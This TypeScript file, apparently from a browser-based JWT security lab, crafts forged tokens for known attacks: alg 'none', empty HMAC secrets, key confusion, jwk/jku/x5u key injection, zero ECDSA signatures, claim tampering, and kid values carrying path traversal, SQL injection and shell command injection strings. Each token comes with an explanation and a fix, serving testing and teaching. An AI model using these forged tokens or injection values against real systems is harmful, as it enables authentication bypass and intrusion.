import { exportKeyText, parseKey } from '../keys'
import { err, ok, type Result } from '../result'
import { asymmetricToken, base64urlEncode, hmacToken, utf8 } from '../token'
import type { JWK, KeyFormat, ParsedKey } from '../types'
import { bareJwk, generateAttackerKey, type AttackerKey } from './attacker-key'
import { attackInfo } from './catalogue'
import { compactObject, editJsonObject, type JsonEdit } from './header-edit'
import type { AttackErrorCode, AttackExtra, AttackId, AttackInput, AttackerKeyType, CraftedToken } from './types'
import { selfSignedCertificate } from './x509'

/** The result of crafting: one or more tokens (e.g. one per casing of "none"). */
export type CraftResult = Result<readonly CraftedToken[], AttackErrorCode>

/** The four spellings of "none" the lab tries: exact, capitalised, upper case and mixed. */
const NONE_CASINGS: readonly string[] = ['none', 'None', 'NONE', 'nOnE']

/** `kid` of the path-traversal preset: climbs out of any key folder to the empty /dev/null. */
const KID_PATH_TRAVERSAL = '../../../../../../dev/null'
/** `kid` of the SQL-injection preset: the query returns the attacker's key. */
const KID_SQL_INJECTION = "x' UNION SELECT 'attacker-key' -- "
/** `kid` of the command-injection preset: a second command prints the attacker's key. */
const KID_COMMAND_INJECTION = 'x; echo -n attacker-key'
/** The HMAC key the SQL and command injection presets make the verifier use. */
const INJECTED_KEY = 'attacker-key'

/** Header members that point at keys; attacks that choose the key drop the ones they do not use. */
const KEY_POINTERS = ['jwk', 'jku', 'x5u', 'x5c', 'x5t', 'x5t#S256']

/**
 * Crafts the tokens of one attack from the current header and payload (JSON texts). Header edits
 * are made in the compacted text, so other members keep their place and number text. Never throws:
 * missing or invalid inputs come back as errors that say what to provide.
 */
export async function craftAttack(id: AttackId, input: AttackInput): Promise<CraftResult> {
  try {
    switch (id) {
      case 'alg-none':
        return await craftNone(input)
      case 'empty-hmac-secret':
        return await craftEmptySecret(input)
      case 'key-confusion':
        return await craftKeyConfusion(input)
      case 'embedded-jwk':
        return await craftEmbeddedJwk(input)
      case 'jku-injection':
        return await craftJku(input)
      case 'x5u-injection':
        return await craftX5u(input)
      case 'kid-path-traversal':
        return await craftKid(input, 'kid-path-traversal', KID_PATH_TRAVERSAL, '')
      case 'kid-sql-injection':
        return await craftKid(input, 'kid-sql-injection', KID_SQL_INJECTION, INJECTED_KEY)
      case 'kid-command-injection':
        return await craftKid(input, 'kid-command-injection', KID_COMMAND_INJECTION, INJECTED_KEY)
      case 'psychic-signature':
        return await craftPsychic(input)
      case 'claim-tampering':
        return await craftTampering(input)
      default:
        return err('ATTACK_UNKNOWN', `There is no attack called "${String(id)}". Choose one from the attack catalogue.`)
    }
  } catch (cause) {
    const detail = cause instanceof Error ? cause.message : String(cause)
    return err('CRYPTO_FAILED', `The attack could not be crafted because the browser's cryptography failed: ${detail}. Try again.`)
  }
}

interface Parts {
  readonly header: string
  readonly payload: string
}

function prepare(input: AttackInput, edit: JsonEdit): Result<Parts, AttackErrorCode> {
  const header = compactObject(input.headerText, 'header')
  if (!header.ok) return header
  const payload = compactObject(input.payloadText, 'payload')
  if (!payload.ok) return payload
  const edited = editJsonObject(header.value, edit)
  if (!edited.ok) return edited
  return ok({ header: edited.value, payload: payload.value })
}

function crafted(id: AttackId, token: string, title: string, lead: string, extra?: readonly AttackExtra[]): CraftedToken {
  const info = attackInfo(id)
  return {
    attack: id,
    token,
    title,
    explanation: lead === '' ? info.exploits : `${lead} ${info.exploits}`,
    fix: info.fix,
    reference: info.references.join('; '),
    ...(extra !== undefined ? { extra } : {}),
  }
}

async function craftNone(input: AttackInput): Promise<CraftResult> {
  const tokens: CraftedToken[] = []
  for (const casing of NONE_CASINGS) {
    const parts = prepare(input, { set: [['alg', JSON.stringify(casing)]] })
    if (!parts.ok) return parts
    const token = `${base64urlEncode(parts.value.header)}.${base64urlEncode(parts.value.payload)}.`
    tokens.push(crafted('alg-none', token, `alg "${casing}", empty signature`, `The header says "alg": "${casing}" and the signature part is empty.`))
  }
  return ok(tokens)
}

async function craftEmptySecret(input: AttackInput): Promise<CraftResult> {
  const parts = prepare(input, { set: [['alg', '"HS256"']] })
  if (!parts.ok) return parts
  const token = await hmacToken('SHA-256', new Uint8Array(0), parts.value.header, parts.value.payload)
  return ok([crafted('empty-hmac-secret', token, 'HS256 signed with an empty secret', 'Signed with HMAC-SHA256 under a zero-length key.')])
}

/** PEM formats whose text a verifier would load as its public key file. */
const PUBLIC_PEM: readonly KeyFormat[] = ['pem-spki', 'pem-pkcs1-public', 'pem-certificate']

async function craftKeyConfusion(input: AttackInput): Promise<CraftResult> {
  const text = input.publicKeyText ?? ''
  if (text.trim() === '') {
    return err('KEY_REQUIRED', "Key confusion needs the verifier's public key: paste it as PEM or JWK (it is public, so attackers usually find it in a JWKS or a certificate).")
  }
  const parsed = await parseKey(text, { encoding: 'utf8' })
  if (!parsed.ok) return err('KEY_INVALID', `The public key could not be read: ${parsed.error.message}`)
  const key = parsed.value.keys[0] as ParsedKey
  if (key.kty === 'oct') {
    return err('KEY_NOT_ASYMMETRIC', 'The key is an HMAC secret. Key confusion turns an RSA or EC public key into an HMAC secret: paste the public key (PEM or JWK) the verifier holds.')
  }
  const jwk = publicKeyMembers(key.publicJwk ?? key.jwk)
  const pemGiven = PUBLIC_PEM.includes(parsed.value.format)
  // The key module writes SPKI for every key type, including those WebCrypto lacks (secp256k1, Ed448, ML-DSA).
  const exported = pemGiven ? undefined : await exportKeyText(key, 'pem', 'public')
  if (exported !== undefined && !exported.ok) return err('KEY_INVALID', `The public key could not be written as PEM: ${exported.error.message}`)
  const pem = exported === undefined ? text : exported.value
  const secrets: { title: string; secret: string; lead: string }[] = []
  const withBreak = pem.trimEnd() + '\n'
  const withoutBreak = pem.trimEnd()
  const given = (candidate: string) => (pemGiven && candidate === text ? ' (exactly as given)' : '')
  const source = pemGiven ? 'the public key PEM' : 'the public key as SPKI PEM'
  if (pemGiven && text !== withBreak && text !== withoutBreak) {
    secrets.push({ title: 'HS256 keyed with the PEM exactly as given', secret: text, lead: `The HMAC secret is the bytes of ${source}, exactly as pasted.` })
  }
  secrets.push({ title: `HS256 keyed with the PEM with its final line break${given(withBreak)}`, secret: withBreak, lead: `The HMAC secret is the bytes of ${source}, ending in a line break (as PEM files on disk usually do).` })
  secrets.push({ title: `HS256 keyed with the PEM without the final line break${given(withoutBreak)}`, secret: withoutBreak, lead: `The HMAC secret is the bytes of ${source}, without a final line break (as many configuration values are).` })
  const jwkText = JSON.stringify(jwk)
  secrets.push({ title: 'HS256 keyed with the public JWK text', secret: jwkText, lead: 'The HMAC secret is the public JWK as compact JSON text.' })
  if (parsed.value.format === 'jwk' && text.trim() !== jwkText) {
    secrets.push({ title: 'HS256 keyed with the JWK exactly as given', secret: text, lead: 'The HMAC secret is the JWK text exactly as pasted.' })
  }
  const parts = prepare(input, { set: [['alg', '"HS256"']], remove: KEY_POINTERS })
  if (!parts.ok) return parts
  const tokens: CraftedToken[] = []
  for (const { title, secret, lead } of secrets) {
    const token = await hmacToken('SHA-256', utf8(secret), parts.value.header, parts.value.payload)
    tokens.push(crafted('key-confusion', token, title, lead, [{ label: 'HMAC secret used', value: secret }]))
  }
  return ok(tokens)
}

/** Only the members that define the public key, in the usual order (what a verifier would store). */
function publicKeyMembers(jwk: JWK): JWK {
  const names = jwk.kty === 'RSA' ? ['kty', 'n', 'e'] : jwk.kty === 'EC' ? ['kty', 'crv', 'x', 'y'] : jwk.kty === 'AKP' ? ['kty', 'alg', 'pub'] : ['kty', 'crv', 'x']
  const out: Record<string, unknown> = {}
  for (const name of names) {
    const value = (jwk as Record<string, unknown>)[name]
    if (value !== undefined) out[name] = value
  }
  return out as JWK
}


function keyExtras(key: AttackerKey): AttackExtra[] {
  return [
    { label: 'Attacker private key (PEM)', value: key.privatePem },
    { label: 'Attacker private key (JWK)', value: JSON.stringify(key.privateJwk, null, 2) },
  ]
}

function keyType(input: AttackInput): AttackerKeyType {
  return input.keyType ?? 'EC'
}

async function craftEmbeddedJwk(input: AttackInput): Promise<CraftResult> {
  const check = prepare(input, {})
  if (!check.ok) return check
  const key = await generateAttackerKey(keyType(input))
  const parts = prepare(input, {
    set: [['alg', JSON.stringify(key.alg)], ['kid', JSON.stringify(key.kid)], ['jwk', JSON.stringify(bareJwk(key))]],
    remove: KEY_POINTERS.filter((p) => p !== 'jwk'),
  })
  if (!parts.ok) return parts
  const token = await asymmetricToken(key.alg, key.privateKey, parts.value.header, parts.value.payload)
  return ok([
    crafted('embedded-jwk', token, `${key.alg} signed with a new key embedded as "jwk"`, `A fresh ${describeType(key)} key signed the token, and its public half is in the header.`, [
      { label: 'Embedded public key (JWK)', value: JSON.stringify(bareJwk(key), null, 2) },
      ...keyExtras(key),
    ]),
  ])
}

function checkUrl(input: AttackInput): Result<string, AttackErrorCode> {
  const url = (input.url ?? '').trim()
  if (url === '') return err('URL_REQUIRED', 'Enter the URL where you will host the key file (an address you control, e.g. https://attacker.example/jwks.json).')
  let parsed: URL
  try {
    parsed = new URL(url)
  } catch {
    return err('URL_INVALID', `"${url}" is not an absolute URL. Enter one like https://attacker.example/jwks.json.`)
  }
  if (parsed.protocol !== 'https:' && parsed.protocol !== 'http:') {
    return err('URL_INVALID', `"${url}" uses ${parsed.protocol.replace(/:$/, '')}; verifiers fetch keys over https (or http). Enter an https URL.`)
  }
  return ok(url)
}

async function craftJku(input: AttackInput): Promise<CraftResult> {
  const url = checkUrl(input)
  if (!url.ok) return url
  const check = prepare(input, {})
  if (!check.ok) return check
  const key = await generateAttackerKey(keyType(input))
  const parts = prepare(input, {
    set: [['alg', JSON.stringify(key.alg)], ['jku', JSON.stringify(url.value)], ['kid', JSON.stringify(key.kid)]],
    remove: KEY_POINTERS.filter((p) => p !== 'jku'),
  })
  if (!parts.ok) return parts
  const token = await asymmetricToken(key.alg, key.privateKey, parts.value.header, parts.value.payload)
  const jwks = JSON.stringify({ keys: [key.publicJwk] }, null, 2)
  return ok([
    crafted('jku-injection', token, `${key.alg} signed with a new key published at "jku"`, `A fresh ${describeType(key)} key signed the token; host the JWKS below at ${url.value}.`, [
      { label: `JWKS to host at ${url.value}`, value: jwks },
      ...keyExtras(key),
    ]),
  ])
}

async function craftX5u(input: AttackInput): Promise<CraftResult> {
  const url = checkUrl(input)
  if (!url.ok) return url
  const check = prepare(input, {})
  if (!check.ok) return check
  const key = await generateAttackerKey(keyType(input))
  const parts = prepare(input, {
    set: [['alg', JSON.stringify(key.alg)], ['x5u', JSON.stringify(url.value)]],
    remove: KEY_POINTERS.filter((p) => p !== 'x5u'),
  })
  if (!parts.ok) return parts
  const token = await asymmetricToken(key.alg, key.privateKey, parts.value.header, parts.value.payload)
  const certificate = await selfSignedCertificate(key, 'JWT Lab attacker')
  return ok([
    crafted('x5u-injection', token, `${key.alg} signed with a new key whose certificate is at "x5u"`, `A fresh ${describeType(key)} key signed the token; host the self-signed certificate below at ${url.value} (PEM, as RFC 7515 §4.1.5 requires). Only a verifier that skips chain validation accepts it.`, [
      { label: `Certificate to host at ${url.value}`, value: certificate },
      ...keyExtras(key),
    ]),
  ])
}

function describeType(key: AttackerKey): string {
  return key.alg === 'RS256' ? 'RSA 2048' : 'EC P-256'
}

async function craftKid(input: AttackInput, id: AttackId, kid: string, secret: string): Promise<CraftResult> {
  const parts = prepare(input, { set: [['alg', '"HS256"'], ['kid', JSON.stringify(kid)]], remove: KEY_POINTERS })
  if (!parts.ok) return parts
  const token = await hmacToken('SHA-256', utf8(secret), parts.value.header, parts.value.payload)
  const keyText = secret === '' ? 'an empty key' : `the key "${secret}"`
  return ok([crafted(id, token, `HS256 with "kid": ${JSON.stringify(kid)}`, `The token is signed with HMAC-SHA256 under ${keyText}, which this "kid" makes the verifier use.`, [
    { label: 'HMAC secret used', value: secret },
  ])])
}

async function craftPsychic(input: AttackInput): Promise<CraftResult> {
  // Every ECDSA verifier that skips the r, s ∈ [1, n−1] check accepts r = s = 0 (CVE-2022-21449 in
  // Java): ES256 is the common case, ES256K (secp256k1, RFC 8812) the one of atproto and DID stacks.
  const tokens: CraftedToken[] = []
  for (const alg of ['ES256', 'ES256K'] as const) {
    const parts = prepare(input, { set: [['alg', JSON.stringify(alg)]], remove: KEY_POINTERS })
    if (!parts.ok) return parts
    const token = `${base64urlEncode(parts.value.header)}.${base64urlEncode(parts.value.payload)}.${base64urlEncode(new Uint8Array(64))}`
    tokens.push(crafted('psychic-signature', token, `${alg} with r = 0 and s = 0`, 'The signature is 64 zero bytes: r = 0 and s = 0.'))
  }
  return ok(tokens)
}

async function craftTampering(input: AttackInput): Promise<CraftResult> {
  const original = (input.originalToken ?? '').trim()
  if (original === '') return err('TOKEN_REQUIRED', 'Claim tampering keeps the signature of a real token: paste the original signed token.')
  const segments = original.split('.')
  if (segments.length !== 3 || segments[2] === '') {
    return err('TOKEN_INVALID', `The original token must be a signed JWT of three parts (header.payload.signature) with a signature; this one has ${segments.length} part${segments.length === 1 ? '' : 's'}${segments.length === 3 ? ' and an empty signature' : ''}.`)
  }
  const payload = compactObject(input.payloadText, 'payload')
  if (!payload.ok) return payload
  const token = `${segments[0]}.${base64urlEncode(payload.value)}.${segments[2]}`
  return ok([crafted('claim-tampering', token, 'Changed payload, original header and signature', 'The payload was replaced; the header and signature are the original ones, so the signature no longer matches.')])
}
